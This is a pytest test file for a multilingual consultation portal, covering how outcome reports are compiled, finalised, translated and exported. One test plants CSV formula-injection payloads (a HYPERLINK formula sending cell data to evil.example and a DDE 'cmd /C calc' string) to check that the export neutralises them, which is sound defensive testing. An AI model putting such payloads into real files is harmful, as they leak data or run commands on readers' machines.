"""Outcome documents on the portal: who compiles, downloads and reads what, what a final version
freezes, and the forms for the written parts, breakout summaries, translations and consent to
be named."""

import csv
import io
import json

import pytest
from docx import Document
from sqlalchemy import select

from consultations.models import ApprovalRule, AttributionRule, ConsultationStatus
from portal.templating import local_date
from recommendations import translating
from recommendations.models import TranslationStatus, VersionTranslation, Vote
from recommendations.outcome import operations
from recommendations.outcome.models import (
    BreakoutSummary,
    FinalDocumentChanged,
    OutcomeDocument,
    OutcomeText,
)
from tests.conftest import find_user, sign_in, submit
from tests.outcome_data import PDF_TOOLS, build_outcome_consultation, pdf_pages, registration
from tests.test_registration import DETAILS


@pytest.fixture
def made(session, make_user, make_consultation, register):
    return build_outcome_consultation(session, make_user, make_consultation, register)


def signed_in(app, made, who: str):
    client = app.test_client()
    sign_in(client, made.users[who].email)
    return client


def page(client, path: str) -> str:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    return response.get_data(as_text=True)


def test_the_secretariat_sees_what_is_missing_compiles_and_downloads(app, made, session):
    slug = made.consultation.slug
    client = signed_in(app, made, "secretariat")

    html = page(client, f"/c/{slug}/outcome?locale=fr")
    assert "R4: the translation of its current version is not reviewed yet." in html
    assert "The executive summary is not written in this language." in html
    assert "Group 1 has no summary in this language." in html
    response = submit(client, f"/c/{slug}/outcome/compile", {"locale": "fr"},
                      form_path=f"/c/{slug}/outcome?locale=fr")
    document = session.scalars(select(OutcomeDocument)).one()
    assert response.status_code == 302
    assert response.headers["Location"].endswith(f"/c/{slug}/outcome/versions/{document.id}")
    assert (document.locale, document.number, document.generated_by_id) == (
        "fr", 1, made.users["secretariat"].id)

    version = page(client, f"/c/{slug}/outcome/versions/{document.id}")
    assert document.sha256 in version
    assert 'lang="fr"' in version and "Les États côtiers devraient débarquer" in version
    download = client.get(f"/c/{slug}/outcome/versions/{document.id}/document.docx")
    assert download.status_code == 200
    assert download.mimetype == ("application/vnd.openxmlformats-officedocument."
                                 "wordprocessingml.document")
    assert f"{slug}-outcome-fr-v1.docx" in download.headers["Content-Disposition"]
    assert download.data == document.content
    Document(io.BytesIO(download.data))
    archive = json.loads(client.get(
        f"/c/{slug}/outcome/versions/{document.id}/outcome.json").data)
    assert archive["sha256"] == document.sha256
    assert archive["outcome"]["gaps"] == document.data["gaps"]
    csv_text = client.get(f"/c/{slug}/outcome/versions/{document.id}/recommendations.csv"
                          ).get_data(as_text=True)
    assert csv_text.startswith("\ufeffreference,status,title,text")
    assert "Débarquement sûr" in csv_text
    preview = page(client, f"/c/{slug}/outcome/preview?locale=en")
    assert "A regional network of focal points" in preview
    assert 'src="data:image/png;base64,' in preview


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_recommendations_export_shows_titles_and_reservations_like_formulas_as_text(
    app, made, session, start
):
    safe_landing = made.recommendations["R2"]
    # Set past the forms, which strip leading spaces: the export trusts no stored text.
    safe_landing.title = f'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
    vote = session.scalars(select(Vote).where(Vote.reservation.is_not(None))).one()
    vote.reservation = f"{start}cmd|' /C calc'!A0"
    document = operations.compile_outcome(made.consultation, "en", made.users["secretariat"])
    session.flush()
    client = signed_in(app, made, "secretariat")

    response = client.get(f"/c/{made.consultation.slug}/outcome/versions/{document.id}"
                          "/recommendations.csv")

    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeffreference,")
    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(text[1:]))}
    assert rows["R2"]["title"] == f'\'{start}HYPERLINK("http://evil.example/?x="&A1,"x")'
    assert rows["R2"]["reservations"] == (
        f"'{start}cmd|' /C calc'!A0 (Aminata Delegate (Senegalese Red Cross Society))")
    assert rows["R2"]["support"] == "4"
    assert rows["R1"]["title"] == "A regional network of focal points"


@pytest.mark.parametrize("who", ["p1", "rapporteur", "outsider"])
def test_only_the_team_compiles_and_reads_drafts(app, made, session, who):
    slug = made.consultation.slug
    draft = operations.compile_outcome(made.consultation, "en", made.users["secretariat"])
    session.flush()
    client = signed_in(app, made, who)

    assert submit(client, f"/c/{slug}/outcome/compile", {"locale": "en"},
                  form_path=f"/c/{slug}").status_code == 403
    for path in (f"/c/{slug}/outcome/versions/{draft.id}",
                 f"/c/{slug}/outcome/versions/{draft.id}/document.docx",
                 f"/c/{slug}/outcome/versions/{draft.id}/outcome.json",
                 f"/c/{slug}/outcome/versions/{draft.id}/recommendations.csv",
                 f"/c/{slug}/outcome/preview", f"/c/{slug}/outcome/texts/en",
                 f"/c/{slug}/outcome/translations"):
        assert client.get(path).status_code == 403, path
    listing = client.get(f"/c/{slug}/outcome")
    assert listing.status_code == (403 if who == "outsider" else 200)
    assert session.scalars(select(OutcomeDocument)).all() == [draft]


def test_signed_out_visitors_are_sent_to_sign_in(client, made):
    response = client.get(f"/c/{made.consultation.slug}/outcome")
    assert response.status_code == 302 and "/account/sign-in" in response.headers["Location"]


def test_the_final_version_is_read_by_everyone_admitted_and_freezes_its_language(
    app, made, session
):
    consultation, secretariat = made.consultation, made.users["secretariat"]
    slug = consultation.slug
    first = operations.compile_outcome(consultation, "en", secretariat)
    second = operations.compile_outcome(consultation, "en", secretariat)
    assert second.missing_count == 1  # R4 has no result
    with pytest.raises(operations.OutcomeRefused, match="items missing"):
        operations.mark_final(second, secretariat)
    team = signed_in(app, made, "secretariat")
    submit(team, f"/c/{slug}/outcome/versions/{second.id}/final",
           {"missing_acknowledged": "y"}, form_path=f"/c/{slug}/outcome/versions/{second.id}")
    session.refresh(second)
    assert second.final and second.finalised_by_id == secretariat.id

    participant = signed_in(app, made, "p2")
    assert f"/c/{slug}/outcome/versions/{second.id}/document.docx" in page(
        participant, f"/c/{slug}/outcome")
    assert participant.get(
        f"/c/{slug}/outcome/versions/{second.id}/document.docx").data == second.content
    assert participant.get(f"/c/{slug}/outcome/versions/{first.id}").status_code == 403

    # Nothing in English changes any more; French still does.
    with pytest.raises(operations.OutcomeRefused, match="final"):
        operations.compile_outcome(consultation, "en", secretariat)
    with pytest.raises(operations.OutcomeRefused, match="final"):
        operations.mark_final(first, secretariat, missing_acknowledged=True)
    with pytest.raises(operations.OutcomeRefused, match="final"):
        operations.save_outcome_text(consultation, secretariat, "en", executive_summary="New",
                                     introduction="", names={})
    group = made.consultation.agenda_items[1].groups[0]
    with pytest.raises(operations.OutcomeRefused, match="final"):
        operations.save_breakout_summary(group, secretariat, "en", "New summary")
    r1 = made.recommendations["R1"]
    with pytest.raises(translating.TranslationRefused):
        translating.save_translation(r1.current_version, secretariat, locale="en",
                                     title="T", text="T", status=TranslationStatus.reviewed)
    assert operations.compile_outcome(consultation, "fr", secretariat).number == 1
    refused = submit(team, f"/c/{slug}/outcome/compile", {"locale": "en"},
                     form_path=f"/c/{slug}/outcome?locale=fr", follow_redirects=True)
    assert "is final: nothing in that language changes any more" in refused.get_data(
        as_text=True)



@pytest.mark.parametrize("change", ["content", "unfinalise", "delete"])
def test_no_code_changes_or_deletes_a_final_version(made, session, change):
    document = operations.compile_outcome(made.consultation, "en", made.users["secretariat"])
    operations.mark_final(document, made.users["secretariat"], missing_acknowledged=True)
    session.flush()
    if change == "content":
        document.content = b"changed"
    elif change == "unfinalise":
        document.final = False
    else:
        session.delete(document)
    with pytest.raises(FinalDocumentChanged):
        session.flush()
    session.rollback()


def test_the_secretariat_writes_the_texts_and_the_names_in_a_language(app, made, session):
    slug = made.consultation.slug
    client = signed_in(app, made, "secretariat")
    form = page(client, f"/c/{slug}/outcome/texts/fr")
    assert "Regional consultation on missing migrants" in form  # a name to translate

    response = submit(client, f"/c/{slug}/outcome/texts/fr", {
        "executive_summary": "La consultation a adopté deux recommandations.",
        "introduction": "Introduction en français.",
        "name_0": "Consultation régionale sur les migrants disparus"})
    assert response.status_code == 302
    written = session.scalars(select(OutcomeText).where(OutcomeText.locale == "fr")).one()
    assert written.executive_summary == "La consultation a adopté deux recommandations."
    assert written.names == {"Regional consultation on missing migrants":
                             "Consultation régionale sur les migrants disparus"}
    assert signed_in(app, made, "p1").get(f"/c/{slug}/outcome/texts/fr").status_code == 403
    assert client.get(f"/c/{slug}/outcome/texts/xx").status_code == 404


def test_a_rapporteur_writes_the_summary_of_their_own_group_only(app, made, session):
    slug = made.consultation.slug
    groups = made.consultation.agenda_items[1].groups
    own, other = groups[0], groups[1]
    client = signed_in(app, made, "rapporteur")
    path = f"/c/{slug}/outcome/breakouts/{own.id}?locale=fr"
    assert "The group asked for a regional focal point network." in page(client, path)

    response = submit(client, path, {"text": "Le groupe demande un réseau de points focaux."})
    assert response.status_code == 302
    summary = session.scalars(select(BreakoutSummary).where(
        BreakoutSummary.breakout_group_id == own.id, BreakoutSummary.locale == "fr")).one()
    assert summary.text == "Le groupe demande un réseau de points focaux."
    assert client.get(f"/c/{slug}/outcome/breakouts/{other.id}").status_code == 403
    assert signed_in(app, made, "p1").get(path).status_code == 403
    assert f"/c/{slug}/outcome/breakouts/{own.id}" in page(client, f"/c/{slug}")

    submit(client, path, {"text": "  "})
    assert session.scalars(select(BreakoutSummary).where(
        BreakoutSummary.breakout_group_id == own.id, BreakoutSummary.locale == "fr")).all() == []


def test_a_translation_is_entered_reviewed_and_follows_new_versions(app, made, session):
    from recommendations import drafting

    consultation = made.consultation
    slug = consultation.slug
    r4 = made.recommendations["R4"]
    client = signed_in(app, made, "secretariat")
    listing = page(client, f"/c/{slug}/outcome/translations?locale=fr")
    assert "Draft translation" in listing and "Translate R4" not in listing

    path = f"/c/{slug}/outcome/translations/{r4.id}/fr"
    assert f'href="{path}"' in page(client, f"/c/{slug}/recommendations/{r4.id}")
    # The secretariat translated R4: it may correct its draft but not mark it reviewed.
    form = page(client, path)
    assert "Les États devraient informer les migrants." in form
    assert 'value="reviewed"' not in form
    refused = submit(client, path, {"title": "Information avant le départ",
                                    "text": "Les États devraient informer les migrants.",
                                    "status": "reviewed"})
    assert refused.status_code == 400
    translation = session.scalars(select(VersionTranslation).where(
        VersionTranslation.version_id == r4.current_version.id)).one()
    assert translation.status == TranslationStatus.draft

    # The facilitator reviews it, correcting a word on the way; the translator stays named.
    reviewer = signed_in(app, made, "facilitator")
    assert 'value="reviewed"' in page(reviewer, path)
    submit(reviewer, path, {"title": "Information avant le départ",
                            "text": "Les États devraient informer les migrants des risques.",
                            "status": "reviewed"})
    session.refresh(translation)
    assert translation.status == TranslationStatus.reviewed
    assert translation.text == "Les États devraient informer les migrants des risques."
    assert translation.translated_by_id == made.users["secretariat"].id
    assert translation.reviewed_by_id == made.users["facilitator"].id
    assert "R4" not in {gap["subject"] for gap in operations.compile_outcome(
        consultation, "fr", made.users["secretariat"]).data["gaps"] if gap["kind"] ==
        "translation"}

    # A new version needs its own translation: the form starts from the last one and shows
    # what changed in the original.
    drafting.revise(r4, made.users["rapporteur"], "States should inform migrants of the "
                                                   "risks of the routes.")
    session.flush()
    html = page(client, path)
    assert "Les États devraient informer les migrants des risques." in html
    assert "<ins>" in html or "<del>" in html
    assert signed_in(app, made, "p1").get(path).status_code == 403
    refused = submit(client, f"/c/{slug}/outcome/translations/{r4.id}/en",
                     {"title": "T", "text": "T", "status": "draft"})
    assert refused.status_code == 400
    assert "This version is written in this language already." in refused.get_data(as_text=True)


def test_registering_asks_whether_to_be_named_and_the_answer_can_change(
    app, client, make_consultation, make_user, session
):
    consultation = make_consultation(status=ConsultationStatus.registration_open,
                                     approval_rule=ApprovalRule.automatic,
                                     attribution_rule=AttributionRule.attributed)
    user = make_user(email="named@example.org")
    sign_in(client, "named@example.org")
    form = page(client, f"/c/{consultation.slug}/register")
    assert 'name="listed_in_outcome"' in form
    submit(client, f"/c/{consultation.slug}/register",
           {**DETAILS, "preferred_locale": "en", "name": user.name, "listed_in_outcome": "y"})
    registration_ = registration(consultation, find_user("named@example.org"))
    assert registration_.listed_in_outcome

    mine = page(client, f"/c/{consultation.slug}/registration")
    assert "You agreed to be named" in mine
    submit(client, f"/c/{consultation.slug}/outcome/listing", {},
           form_path=f"/c/{consultation.slug}/registration")
    session.refresh(registration_)
    assert not registration_.listed_in_outcome

    chatham = make_consultation(status=ConsultationStatus.registration_open,
                                attribution_rule=AttributionRule.chatham_house)
    assert 'name="listed_in_outcome"' not in page(client, f"/c/{chatham.slug}/register")


def test_a_part_written_before_a_result_is_flagged_and_final_needs_a_confirmation(
    app, made, session
):
    from datetime import timedelta

    from recommendations import voting

    consultation, secretariat = made.consultation, made.users["secretariat"]
    slug = consultation.slug
    operations.save_outcome_text(consultation, secretariat, "en",
                                 executive_summary="R4 remains under discussion.",
                                 introduction="", names={})
    written = session.scalars(select(OutcomeText).where(OutcomeText.locale == "en")).one()
    written.updated_at -= timedelta(minutes=5)
    r4 = made.recommendations["R4"]
    from recommendations import drafting

    drafting.revise(r4, made.users["rapporteur"], "States should inform migrants.")
    round_ = voting.open_round(r4, made.users["facilitator"])
    for key in ("p1", "p2", "p3", "p4", "p5"):
        voting.cast_vote(round_, made.users[key], "support")
    voting.close_round(round_, made.users["facilitator"], confirmed=True)
    session.flush()
    client = signed_in(app, made, "secretariat")

    html = page(client, f"/c/{slug}/outcome?locale=en")
    with app.test_request_context():
        day = local_date(round_.closed_at, consultation.time_zone)
    assert "1 written part may be out of date" in html
    assert f"The executive summary was written before R4 was adopted on {day}." in html
    submit(client, f"/c/{slug}/outcome/compile", {"locale": "en"},
           form_path=f"/c/{slug}/outcome?locale=en")
    document = session.scalars(select(OutcomeDocument)).one()
    version = page(client, f"/c/{slug}/outcome/versions/{document.id}")
    assert 'name="stale_acknowledged"' in version

    path = f"/c/{slug}/outcome/versions/{document.id}/final"
    refused = submit(client, path, {"missing_acknowledged": "y"}, form_path=path.removesuffix(
        "/final"), follow_redirects=True)
    assert "changed after the part was written" in refused.get_data(as_text=True)
    session.refresh(document)
    assert not document.final
    submit(client, path, {"missing_acknowledged": "y", "stale_acknowledged": "y"},
           form_path=path.removesuffix("/final"))
    session.refresh(document)
    assert document.final


def test_the_secretariat_sets_the_cover_symbol_and_distribution(app, made, session):
    slug = made.consultation.slug
    client = signed_in(app, made, "secretariat")
    assert 'name="symbol"' in page(client, f"/c/{slug}/outcome/cover")
    response = submit(client, f"/c/{slug}/outcome/cover",
                      {"symbol": "IOM/RT/DAKAR/2024/1", "distribution": "limited"})
    assert response.status_code == 302
    assert "IOM/RT/DAKAR/2024/1" in page(client, f"/c/{slug}/outcome")
    too_long = submit(client, f"/c/{slug}/outcome/cover", {"symbol": "X" * 81,
                                                          "distribution": ""})
    assert too_long.status_code == 400 and "X" * 81 in too_long.get_data(as_text=True)
    assert signed_in(app, made, "p1").get(f"/c/{slug}/outcome/cover").status_code == 403
    document = operations.compile_outcome(made.consultation, "fr", made.users["secretariat"])
    assert document.data["cover"]["symbol"] == "IOM/RT/DAKAR/2024/1"
    assert document.data["cover"]["distribution"] == "Distr. : limitée"


def test_without_libreoffice_the_pages_say_so_and_the_word_file_is_there(app, made, session):
    app.config["LIBREOFFICE"] = ""
    document = operations.compile_outcome(made.consultation, "en", made.users["secretariat"])
    session.flush()
    slug = made.consultation.slug
    client = signed_in(app, made, "secretariat")
    version = page(client, f"/c/{slug}/outcome/versions/{document.id}")
    assert "LibreOffice is not installed on the server: no PDF can be made." in version
    assert "document.pdf" not in version
    assert "none: LibreOffice is not installed" in page(client, f"/c/{slug}/outcome?locale=en")
    response = client.get(f"/c/{slug}/outcome/versions/{document.id}/document.pdf",
                          follow_redirects=True)
    assert response.status_code == 200
    assert "LibreOffice is not installed on the server" in response.get_data(as_text=True)
    session.refresh(document)
    assert document.pdf is None


def _pdf_text(content: bytes, tmp_path) -> tuple[int, str]:
    pages, info = pdf_pages(content, tmp_path)
    assert info["Tagged"] == "yes" and int(info["Pages"]) == len(pages)
    return len(pages), "\f".join(pages)


@pytest.mark.skipif(not all(PDF_TOOLS.values()),
                    reason="LibreOffice and poppler's utilities are not installed")
def test_the_pdf_is_made_once_by_the_route_and_written_by_the_command_line(
    app, made, session, tmp_path, monkeypatch
):
    import hashlib

    from recommendations.outcome import pdf

    app.config["LIBREOFFICE"] = "soffice"
    document = operations.compile_outcome(made.consultation, "fr", made.users["secretariat"])
    session.commit()
    slug = made.consultation.slug
    client = signed_in(app, made, "secretariat")
    path = f"/c/{slug}/outcome/versions/{document.id}/document.pdf"
    assert path in page(client, f"/c/{slug}/outcome/versions/{document.id}")

    response = client.get(path)
    assert response.status_code == 200 and response.mimetype == "application/pdf"
    assert f"{slug}-outcome-fr-v1.pdf" in response.headers["Content-Disposition"]
    session.refresh(document)
    assert response.data == document.pdf
    assert document.pdf_sha256 == hashlib.sha256(document.pdf).hexdigest()
    pages, text = _pdf_text(response.data, tmp_path)
    # The footer's page count is the PDF's; the French texts are in it, the TOC too.
    assert f"Page 2 sur {pages}" in text or f"Page 2 de {pages}" in text
    flat = " ".join(text.split())
    assert "Les États côtiers devraient débarquer toute personne secourue en mer" in flat
    assert "Résumé analytique" in flat or "Synthèse" in flat or "Sommaire" in flat
    # Made once: the second download is the stored file, LibreOffice is not asked again.
    monkeypatch.setattr(pdf, "pdf_of", lambda *args, **kwargs: pytest.fail("made again"))
    assert client.get(path).data == document.pdf
    monkeypatch.undo()

    output = tmp_path / "out.pdf"
    result = app.test_cli_runner().invoke(args=[
        "outcome-document", slug, "--locale", "en", "--output", str(output)])
    assert result.exit_code == 0, result.output
    english = operations.documents_of(made.consultation, "en")[0]
    session.refresh(english)
    assert output.read_bytes() == english.pdf
    assert f"sha256 {english.pdf_sha256}" in result.output
    pages, text = _pdf_text(output.read_bytes(), tmp_path)
    assert f"Page 2 of {pages}" in text and f"Page {pages} of {pages}" in text
    flat = " ".join(text.split())
    assert made.recommendations["R1"].current_version.text.replace("\n", " ") in flat

    app.config["LIBREOFFICE"] = ""
    refused = app.test_cli_runner().invoke(args=[
        "outcome-document", slug, "--locale", "en", "--output", str(tmp_path / "no.pdf")])
    assert refused.exit_code != 0 and "LibreOffice is not installed" in refused.output
